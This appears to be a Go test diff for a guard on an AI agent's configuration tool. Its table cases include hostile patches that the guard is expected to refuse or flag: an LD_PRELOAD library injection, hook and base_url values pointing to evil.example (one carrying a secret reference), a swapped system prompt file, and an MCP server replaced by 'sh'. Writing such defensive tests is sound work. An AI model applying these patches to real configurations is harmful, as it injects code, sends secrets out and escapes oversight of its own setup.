@@ -91,8 +91,8 @@ func TestCallTool_heldFields(t *testing.T) {
 				if string(f.Kind) != attack.want {
 					t.Errorf("got %s: %v, want approval_required for %s", f.Kind, err, attack.want)
 				}
-			case !strings.Contains(string(tree.Append(nil, f.Data["allow"])), `"`+attack.want+`"`):
-				t.Errorf("got approval_required for %v, want %s", f.Data["allow"], attack.want)
+			case !strings.Contains(string(tree.Append(nil, f.Data["fields"])), `"path":"`+attack.want+`"`):
+				t.Errorf("got approval_required for %s, want %s", tree.Append(nil, f.Data["fields"]), attack.want)
 			}
 			if diff := cmp.Diff(guarded, c.text()); diff != "" {
 				t.Errorf("the configuration has changed:\n%s", diff)
@@ -116,6 +116,14 @@ func TestCallTool_allowance(t *testing.T) {
 		"its host changes":    {"network", `{"patch":{"realm":{"team":{"backend":{"main":{"base_url":"https://realmconf-secret%3A1%3A%2Frealm%2Fteam%2Fbackend%2Fmain%2Fbase_url@evil.example/v1"}}}}}}`, "refused"},
 		"not another":         {"/shell/program,network", `{"patch":{"shell":{"program":"sh","security_mode":null}}}`, "refused"},
 		"not a prefix":        {"/shell/pro", `{"patch":{"shell":{"program":"sh"}}}`, "refused"},
+		"code in a secret":    {"secret", `{"operations":[{"op":"add","path":"/tools/mcp_servers/0/env/LD_PRELOAD","value":"/tmp/a.so"}]}`, "refused"},
+		"a hook elsewhere":    {"network", `{"operations":[{"op":"replace","path":"/hooks/entries/1/runtime/url","value":"https://evil.example"}]}`, "refused"},
+		"a hook's port":       {"network,exec", `{"operations":[{"op":"replace","path":"/hooks/entries/1/runtime/url","value":"https://lint.example:1/hook"}]}`, "refused"},
+		"a prompt in a file":  {"path", `{"patch":{"agent":{"system_prompt_file":"/tmp/prompt"}}}`, "refused"},
+		"a file with classes": {"path,posture", `{"patch":{"agent":{"system_prompt_file":"/tmp/prompt"}}}`, `{"by":"flag","fields":["/agent/system_prompt_file"],"way":"flag"}`},
+		"an index":            {"/tools/mcp_servers/0/args", `{"operations":[{"op":"add","path":"/tools/mcp_servers/0/args/-","value":"x"}]}`, "refused"},
+		"a name":              {`/tools/mcp_servers[name="git"]/args`, `{"operations":[{"op":"add","path":"/tools/mcp_servers/0/args/-","value":"x"}]}`, `{"by":"flag","fields":["/tools/mcp_servers/0/args/1"],"way":"flag"}`},
+		"another name":        {`/tools/mcp_servers[name="git"]/args`, `{"operations":[{"op":"replace","path":"/tools/mcp_servers/1","value":{"name":"web","command":"sh","args":["x"]}}],"allow_drop":["/tools/mcp_servers/1"]}`, "refused"},
 		"not the class":       {"posture", `{"patch":{"shell":{"program":"sh"}}}`, "refused"},
 	} {
 		t.Run(name, func(t *testing.T) {
